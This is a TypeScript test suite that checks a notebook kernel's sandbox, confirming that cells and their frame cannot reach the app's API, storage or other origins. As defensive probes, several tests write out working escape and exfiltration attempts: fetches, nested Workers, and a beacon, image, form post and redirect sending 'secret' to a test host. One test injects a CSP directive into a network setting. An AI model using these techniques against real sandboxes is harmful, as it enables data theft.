/** What a cell cannot do: tried by cells in the real kernel, and by scripts in its frame, where none of ours or theirs runs. */
import type { Frame } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ask as request } from '../support/server.ts'
import { openKernelSite, type KernelPage, type KernelSite } from './kernel-site.ts'

let site: KernelSite
let page: KernelPage

beforeAll(async () => {
  site = await openKernelSite()
  page = await site.openPage()
  await page.run('go', '1')
})
afterAll(() => site?.close())

/** The value of an expression of a cell, as a text; what it throws, by its name. */
async function valueOf(expression: string, where = page): Promise<string> {
  const source = `console.log(String(await (async () => { try { return ${expression} } catch (error) { return error.name } })()))`
  const { outputs } = await where.run('pr', source)
  return outputs
    .map((output) => (output.kind === 'stream' ? output.text : JSON.stringify(output)))
    .join('')
    .trimEnd()
}
const frameOf = ({ page: { frames } }: { page: { frames: () => readonly Frame[] } }): Frame => {
  const frame = frames().find((one) => one.url().includes('/kernel?'))
  if (frame === undefined) throw new Error('there is no frame')
  return frame
}
const frame = (): Frame => frameOf({ page: { frames: () => page.page.frames() } })

describe('a cell', () => {
  test.each([
    ['self.origin', 'null'],
    ['isSecureContext', 'true'],
    ['typeof document + typeof window + typeof parent', 'undefinedundefinedundefined'],
    ['typeof localStorage + typeof RTCPeerConnection', 'undefinedundefined'],
    ['await caches.open("x")', 'SecurityError'],
    ['indexedDB.open("x")', 'SecurityError'],
    ['importScripts("https://example.com/x.js")', 'TypeError'],
    ['(0, eval)("1 + 1")', '2'],
    ['crypto.subtle !== undefined', 'true'],
    ['typeof navigator.serviceWorker', 'undefined'],
  ])('[KN18] has no origin, no document and no storage: %s is %s', async (expression, expected) => {
    expect(await valueOf(expression)).toBe(expected)
  })

  test('[KN19] reaches neither our API nor our scripts, whatever it tries', async () => {
    const { url } = site.server.note
    const api = `${url}/w/${site.workspace}/api`
    for (const attempt of [
      `(await fetch('${api}/hello')).status`,
      `(await fetch('${api}/hello', { credentials: 'include', mode: 'no-cors' })).type`,
      `await import('${url}/robots.txt')`,
      `await (0, eval)("import('${url}/robots.txt')")`,
      `await (0, eval)("import('data:text/javascript,export default 1')")`,
      `await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = () => done('loaded'); x.onerror = () => fail(new TypeError()); x.open('GET', '${api}/hello'); x.send() })`,
    ])
      expect([attempt, await valueOf(attempt)]).toEqual([attempt, expect.stringMatching(/Error$/)])
    const sockets = `await new Promise((done) => { const s = new WebSocket('${api.replace('http', 'ws')}/live', 'flowcell'); s.onopen = () => done('open'); s.onerror = () => done('refused') })`
    expect(await valueOf(sockets)).toMatch(/refused|SecurityError/)
    const nested = `await new Promise((done) => {
  const text = \`fetch('${site.other.url}/closed-nested', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('refused')); fetch('${api}/hello').then(() => postMessage('read'), () => postMessage('blocked'))\`
  const worker = new Worker('data:text/javascript,' + encodeURIComponent(text))
  const said = []
  worker.onmessage = ({ data }) => { said.push(data); if (said.length === 2) done(said.sort().join(' ')) }
  worker.onerror = () => done('no nested Worker')
})`
    // A Worker in the Worker has the same policy.
    expect(await valueOf(nested)).toMatch(/^(?:blocked (?:sent|refused)|no nested Worker)$/)
  })

  test('[KN20] without a network reaches nothing, and with hosts only those', async () => {
    const { url } = site.other
    const { host } = new URL(url)
    const none = await site.openPage({ network: 'none' })
    const listed = await site.openPage({ network: `api.example.com ${host}` })
    const other = await site.openPage({ network: 'api.example.com' })
    const open = `(await fetch('${url}/open-listed')).status`
    expect([await valueOf(open, none), await valueOf(open, other), await valueOf(open, listed)]).toEqual(['TypeError', 'TypeError', '200'])
    expect(site.other.asked.filter((line) => line.includes('/open-listed')).length).toBe(1)
    for (const each of [none, listed, other]) await each.page.close()
  })

  test('[KN20] without a network reaches nothing: a setting that nobody understands opens no kernel, and says so', async () => {
    const bad = await site.openPage({ network: 'http://evil.example; connect-src *' })
    await bad.ask((notebook) => notebook.kernel.start(), null)
    await expect
      .poll(() => bad.ask((notebook) => [notebook.kernel.state.value, notebook.resets], null))
      .toEqual(['dead', ['The server gave no frame for the network “http://evil.example; connect-src *”.']])
    await bad.page.close()
  })
})

describe('the frame', () => {
  test('[KN21] has an opaque origin, no way to its page, and no storage', async () => {
    const probes = await frame().evaluate(() => {
      const realm = globalThis as unknown as Record<string, unknown>
      const nameOf = (attempt: () => unknown): string => {
        try {
          return String(attempt())
        } catch (error) {
          return (error as Error).name
        }
      }
      return {
        origin: String(realm['origin']),
        parent: nameOf(() => (realm['parent'] as { document: unknown }).document),
        storage: nameOf(() => realm['localStorage']),
        cookie: nameOf(() => (realm['document'] as { cookie: string }).cookie),
        database: nameOf(() => (realm['indexedDB'] as { open(name: string): unknown }).open('x')),
      }
    })
    const closed = 'SecurityError'
    expect(probes).toEqual({ origin: 'null', parent: closed, storage: closed, cookie: closed, database: closed })
  })

  test('[KN22] leads nowhere: neither by its own navigation nor by a refresh does anything leave', async () => {
    const { url } = site.other
    const victim = await site.openPage()
    await victim.run('go', '1')
    const inside = frameOf({ page: { frames: () => victim.page.frames() } })
    const leave = `(() => {
      const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${url}/leak-refresh?d=secret'; document.head.append(meta)
      const image = new Image(); image.src = '${url}/leak-image'
      const link = document.createElement('a'); link.href = '${url}/leak-link'; link.target = '_blank'; link.click()
      navigator.sendBeacon?.('${url}/leak-beacon')
      const form = document.createElement('form'); form.action = '${url}/leak-form'; form.method = 'post'; document.body.append(form); form.submit()
      setTimeout(() => { location.href = '${url}/leak-navigation?d=secret' })
    })()`
    await inside.evaluate(leave).catch(() => undefined) // it may be gone before it can answer
    await victim.page.waitForTimeout(600)
    // The policy of the frame opens this host (--kernel-host) for requests, and a beacon is one.
    expect(site.other.asked.filter((line) => line.includes('/leak')).map((line) => line.split(' ')[1])).toEqual(['/leak-beacon'])
    expect(victim.page.url()).toBe(`${site.server.note.url}/robots.txt`)
    await victim.page.close()
  })

  test('[KN23] is a page that has no origin in a tab of its own either, and is no page for others to embed', async () => {
    const path = `${site.server.note.url}/w/${site.workspace}/kernel`
    const { headers, status } = await request(path)
    expect([status, headers['content-security-policy']]).toEqual([
      200,
      `default-src 'none'; script-src 'unsafe-inline' 'unsafe-eval' ${site.other.url}; worker-src data:; connect-src https: wss: ${site.other.url} ${site.other.url.replace('http', 'ws')}; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox allow-scripts`,
    ])
    const tab = await site.browser.newPage()
    await tab.goto(path)
    expect(await tab.evaluate('origin')).toBe('null')
    await tab.close()
    expect((await request(`${path}?network=x%20y%3B`)).status).toBe(400)
  })
})

test('[KN24] whoever has no origin is refused by API and socket, with a cookie or without', async () => {
  const api = `${site.server.note.url}/w/${site.workspace}/api`
  for (const [path, method] of [
    ['/hello', 'GET'],
    ['/flow_runs/filter', 'POST'],
    ['/live', 'GET'],
  ] as const) {
    const headers = { origin: 'null', cookie: 'x=1', connection: 'Upgrade', upgrade: 'websocket', 'content-type': 'application/json' }
    const { status, text } = await request(`${api}${path}`, { method, headers, ...(method === 'POST' && { body: '{}' }) })
    expect([path, status, JSON.parse(text).code]).toEqual([path, 403, 'foreign_origin'])
  }
})
